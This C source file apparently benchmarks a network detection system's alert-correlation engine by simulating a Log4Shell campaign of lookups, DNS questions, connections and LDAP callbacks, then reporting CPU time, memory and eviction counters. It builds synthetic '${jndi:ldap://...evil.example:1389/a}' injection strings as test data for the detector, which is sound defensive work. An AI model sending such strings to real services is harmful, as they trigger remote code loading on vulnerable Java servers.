/* SPDX-License-Identifier: GPL-2.0-or-later */
/* What an event costs the collector's joining, and what it keeps: bench_story EVENTS [MEASURED] [RULES.rules
 * ...]
 *
 * A campaign: 10 of 12 events are lookups, each of a name of its own, sent by EVENTS / 10 sources to 4,000
 * home hosts; for each tenth of them the victim asks for the name, and calls back. Half of the callbacks come
 * before the fact about their connection. Nothing is read from files but the rules; records are made as
 * workers make them.
 *
 * Prints CPU time of the last MEASURED events (default: all), what it grew by in memory, and the counters
 * that say what was forgotten. Under callgrind with --instr-atstart=no only these last events are counted:
 * what came before costs a tenth of the time, and is there. bench/story.sh does all that. */
#include "channel/fact.h"
#include "channel/record.h"
#include "correlate/correlate.h"

#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

#if __has_include(<valgrind/callgrind.h>)
#include <valgrind/callgrind.h>
#else
#define CALLGRIND_START_INSTRUMENTATION
#define CALLGRIND_STOP_INSTRUMENTATION
#endif

#define START_US UINT64_C(1639130400000000) /* 2021-12-10 10:00 UTC */
#define STEP_US  10000                      /* 100 events a second */
#define VICTIMS  4000
#define GROUP    12 /* ten lookups, a question, a callback with its connection */

struct bench {
    struct config *config;
    struct ruleset *rules;
    struct correlate *correlate;
    const struct rule *lookup_rule, *callback_rule;
    uint64_t n_sources, n_alerts, now_us, packet;
    struct buf bytes;
};

static struct addr addr_of(uint8_t net, uint64_t n)
{
    const uint8_t b[4] = {net, (uint8_t)(n >> 16), (uint8_t)(n >> 8), (uint8_t)n};

    return addr_v4(b);
}

static void on_alert(void *arg, const struct alert *a)
{
    struct bench *b = arg;

    (void)a;
    b->n_alerts++;
}

/* As a worker would have sent it. */
static void send(struct bench *b, const struct rule *rule, const struct addr ends[2], uint16_t port,
                 const char *app, const struct attrs *attrs, struct bytes payload)
{
    struct flow flow = {.id = b->packet + 1, .proto = PROTO_TCP, .client_known = true, .first_us = b->now_us};
    struct chunk chunk = {.flow = &flow, .side = 0, .ts_us = b->now_us, .packet = b->packet};
    struct field field = {
        .kind = FIELD_HTTP_REQUEST_HEADER, .name = BYTES_LIT("X-Api"), .chunk = &chunk, .app_proto = app};
    struct finding finding = {.rule = rule,
                              .field = &field,
                              .attrs = attrs,
                              .depth = 1,
                              .confidence = 100,
                              .payload = payload,
                              .raw = payload,
                              .decoded = payload};
    struct record record;

    flow.end[0] = (struct flow_end){.addr = ends[0], .port = (uint16_t)(40000 + b->packet % 20000)};
    flow.end[1] = (struct flow_end){.addr = ends[1], .port = port};
    buf_clear(&b->bytes);
    if (!record_write(&b->bytes, &finding, 4096) || !record_read(buf_bytes(&b->bytes), &record))
        abort();
    correlate_clock(b->correlate, b->now_us);
    correlate_record(b->correlate, &record);
}

/* Which lookup an event is, or is about. */
struct attempt {
    uint64_t number, source;
    struct addr victim, server;
    char name[80], host[48];
};

static void attempt_of(const struct bench *b, uint64_t number, struct attempt *a)
{
    a->number = number;
    a->source = number % b->n_sources;
    a->victim = addr_of(10, ((uint32_t)number * 2654435761u >> 12) % VICTIMS);
    a->server = addr_of(100, a->source);
    snprintf(a->host, sizeof a->host, "x%llu.s%llu.evil.example", (unsigned long long)number,
             (unsigned long long)a->source);
    snprintf(a->name, sizeof a->name, "ldap://%s:1389/a", a->host);
}

static void lookup(struct bench *b, const struct attempt *a)
{
    const struct addr ends[2] = {addr_of(198, a->source), a->victim};
    char payload[96];
    struct attrs attrs = {.n = 0};
    int len = snprintf(payload, sizeof payload, "${jndi:%s}", a->name);

    attrs_add(&attrs, ATTR_JNDI_STAGE, BYTES_LIT("lookup"));
    attrs_add(&attrs, ATTR_JNDI_NAME, bytes_str(a->name));
    attrs_add(&attrs, ATTR_JNDI_SCHEME, BYTES_LIT("ldap"));
    attrs_add(&attrs, ATTR_JNDI_HOST, bytes_str(a->host));
    attrs_add(&attrs, ATTR_JNDI_PORT, BYTES_LIT("1389"));
    attrs_add(&attrs, ATTR_JNDI_PATH, BYTES_LIT("a"));
    attrs_add(&attrs, ATTR_JNDI_EFFECTIVE, BYTES_LIT("yes"));
    send(b, b->lookup_rule, ends, 8080, "http", &attrs, bytes_of(payload, (size_t)len));
}

static void question(struct bench *b, const struct attempt *a)
{
    struct fact_name n = {.client = a->victim,
                          .server = addr_of(10, VICTIMS),
                          .server_port = 53,
                          .type = 1,
                          .answered = 1,
                          .n_addrs = 1,
                          .addrs = {a->server},
                          .name_len = (uint8_t)strlen(a->host)};
    struct fact f = {.ts_us = b->now_us, .packet = b->packet, .flow_id = b->packet + 1};
    uint8_t space[FACT_MAX];

    snprintf(n.name, sizeof n.name, "%s", a->host);
    fact_put_name(&f, &n, space);
    correlate_clock(b->correlate, b->now_us);
    correlate_fact(b->correlate, &f);
}

static void connection(struct bench *b, const struct attempt *a)
{
    struct fact_connection c = {.client = a->victim,
                                .server = a->server,
                                .client_port = (uint16_t)(40000 + b->packet % 20000),
                                .server_port = 1389,
                                .proto = PROTO_TCP,
                                .outcome = CONNECTION_TALKED,
                                .ts_us = b->now_us,
                                .packet = b->packet,
                                .app_proto = "ldap"};
    struct fact f = {.ts_us = b->now_us, .packet = b->packet, .flow_id = b->packet + 1};
    uint8_t space[FACT_MAX];

    fact_put_connection(&f, &c, space);
    correlate_clock(b->correlate, b->now_us);
    correlate_fact(b->correlate, &f);
}

static void callback(struct bench *b, const struct attempt *a)
{
    const struct addr ends[2] = {a->victim, a->server};
    struct attrs attrs = {.n = 0};

    attrs_add(&attrs, ATTR_JNDI_STAGE, BYTES_LIT("callback"));
    attrs_add(&attrs, ATTR_LDAP_REQUEST_OPERATION, BYTES_LIT("search_request"));
    attrs_add(&attrs, ATTR_LDAP_REQUEST_DN, BYTES_LIT("a"));
    attrs_add(&attrs, ATTR_LDAP_CLIENT, BYTES_LIT("jndi"));
    send(b, b->callback_rule, ends, 1389, "ldap", &attrs, BYTES_LIT("a"));
}

/* What bench/story.sh counts, with what it takes to make the event. */
static void event(struct bench *b, uint64_t n)
{
    uint64_t group = n / GROUP, at = n % GROUP;
    struct attempt a;

    b->now_us += STEP_US;
    b->packet++;
    attempt_of(b, group * (GROUP - 2) + (at < GROUP - 2 ? at : group % (GROUP - 2)), &a);
    if (at < GROUP - 2) {
        lookup(b, &a);
    } else if (at == GROUP - 2) {
        question(b, &a);
    } else {
        if (group % 2)
            connection(b, &a);
        callback(b, &a);
        if (group % 2 == 0)
            connection(b, &a);
    }
}

static double cpu_s(void)
{
    struct timespec t;

    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Resident memory: what is free but kept, and tables' own pages, count. */
static size_t resident(void)
{
    FILE *f = fopen("/proc/self/statm", "re");
    unsigned long all = 0, held = 0;

    if (!f || fscanf(f, "%lu %lu", &all, &held) != 2)
        abort();
    fclose(f);
    return held * (size_t)sysconf(_SC_PAGESIZE);
}

static size_t larger(size_t a, size_t b)
{
    return a > b ? a : b;
}

static bool start(struct bench *b, int argc, char **argv)
{
    struct complaint why = {{0}};

    b->config = config_new();
    b->rules = b->config ? ruleset_new(b->config, &why) : NULL;
    for (int i = 3; i < argc && b->rules; i++)
        if (!ruleset_add_file(b->rules, argv[i], &why)) {
            fprintf(stderr, "bench_story: %s\n", why.text);
            return false;
        }
    if (!b->rules)
        return false;
    b->lookup_rule = ruleset_by_sid(b->rules, 1, 1442200);
    b->callback_rule = ruleset_by_sid(b->rules, 1, 1442210);
    b->bytes = buf_within(RECORD_MAX);
    return b->lookup_rule && b->callback_rule;
}

static void run(struct bench *b, uint64_t n_events, uint64_t n_measured)
{
    size_t before = resident(), most = 0, empty;
    struct correlate_fill fill;
    uint64_t alerts = 0;
    double since = 0;

    b->now_us = START_US;
    b->correlate = correlate_new(b->config, b->rules, on_alert, b);
    if (!b->correlate)
        abort();
    empty = resident() - before;
    for (uint64_t n = 0; n < n_events; n++) {
        if (n == n_events - n_measured) {
            since = cpu_s();
            CALLGRIND_START_INSTRUMENTATION;
        }
        event(b, n);
        if (n % 16384 == 0 && n < n_events - n_measured)
            most = larger(most, resident() - before);
    }
    CALLGRIND_STOP_INSTRUMENTATION;
    since = cpu_s() - since;
    most = larger(most, resident() - before);
    correlate_fill(b->correlate, &fill);
    alerts = b->n_alerts;
    printf("%llu events, %llu sources, the last %llu: %.2f us each; resident %.1f MB empty, %.1f MB at most, "
           "%.1f MB of it kept to join; "
           "%llu alerts, %llu "
           "incidents "
           "told, %llu evicted, %llu forgotten, %llu promoted\n",
           (unsigned long long)n_events, (unsigned long long)b->n_sources, (unsigned long long)n_measured,
           since * 1e6 / (double)n_measured, (double)empty / 1048576, (double)most / 1048576,
           (double)fill.bytes / 1048576, (unsigned long long)alerts,
           (unsigned long long)counters[COUNT_CORRELATE_INCIDENTS],
           (unsigned long long)counters[COUNT_CORRELATE_EVICTED],
           (unsigned long long)counters[COUNT_CORRELATE_FORGOTTEN],
           (unsigned long long)counters[COUNT_CORRELATE_PROMOTED]);
    correlate_free(b->correlate);
}

int main(int argc, char **argv)
{
    uint64_t n_events = argc > 1 ? strtoull(argv[1], NULL, 10) : 0;
    uint64_t n_measured = argc > 2 ? strtoull(argv[2], NULL, 10) : n_events;
    struct bench b = {.n_sources = n_events / 10 ? n_events / 10 : 1};

    if (n_events == 0 || n_measured == 0 || n_measured > n_events || !start(&b, argc, argv)) {
        fprintf(stderr, "usage: bench_story EVENTS MEASURED RULES.rules ...\n");
        return 2;
    }
    run(&b, n_events, n_measured);
    buf_drop(&b.bytes);
    ruleset_free(b.rules);
    config_free(b.config);
    return 0;
}
